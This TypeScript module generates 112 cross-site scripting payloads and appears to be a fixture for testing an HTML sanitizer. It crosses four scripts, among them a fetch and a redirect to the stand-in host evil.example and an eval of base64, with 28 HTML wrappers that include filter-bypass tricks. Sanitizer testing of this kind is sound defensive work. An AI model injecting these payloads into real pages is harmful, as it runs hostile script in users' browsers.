const scripts = ["alert(1)", "fetch('//evil.example')", "top.location='//evil.example'", "eval(atob('YWxlcnQoMSk='))"];
const wrappers = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<svg onload="${js}"><animate onbegin="${js}"></svg>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) =>
    `<math><mtext><table><mglyph><style><img src onerror="${js}"></style></mglyph></table></mtext></math>`,
  (js: string) => `<a href="javascript:${js}">go</a>`,
  (js: string) => `<a href="JaVa&#x09;ScRiPt:${js}">go</a>`,
  (js: string) => `<a href=" \u0001javascript:${js}">go</a>`,
  (js: string) => `<a href="data:text/html,<script>${js}</script>">go</a>`,
  (js: string) => `<a href="vbscript:${js}">go</a>`,
  (js: string) => `<a href="//evil.example" onclick="${js}">go</a>`,
  (js: string) => `<p onmouseover="${js}" style="background:url(javascript:${js})">go</p>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js: string) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
  (js: string) => `<form action="javascript:${js}"><button formaction="javascript:${js}">go</button></form>`,
  (js: string) => `<input autofocus onfocus="${js}"><textarea></textarea><script>${js}</script>`,
  (js: string) => `<meta http-equiv="refresh" content="0;javascript:${js}"><base href="javascript:${js}//">`,
  (js: string) =>
    `<style>@import 'javascript:${js}';*{x:expression(${js})}</style><link rel=stylesheet href=//evil.example>`,
  (js: string) => `<<script>script>${js}</script>`,
  (js: string) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js: string) => `<!--><img src=x onerror="${js}">-->`,
  (js: string) => `<![CDATA[<img src=x onerror="${js}">]]>`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript>`,
  (js: string) => `<template><img src=x onerror="${js}"></template>`,
  (js: string) => `<video><source onerror="${js}"></video><details open ontoggle="${js}">`,
  (js: string) => `<xmp><img src=x onerror="${js}"></xmp><plaintext><img src=x onerror="${js}">`,
  (js: string) => `<body onload="${js}"><html onclick="${js}">`,
  (js: string) => `<a href="mailto:x@example.com" target="_blank" id="x" name="y" class="z" onfocus="${js}">go</a>`,
];
/** 112 of them. */
export const hostile = scripts.flatMap((js) => wrappers.map((wrap) => wrap(js)));
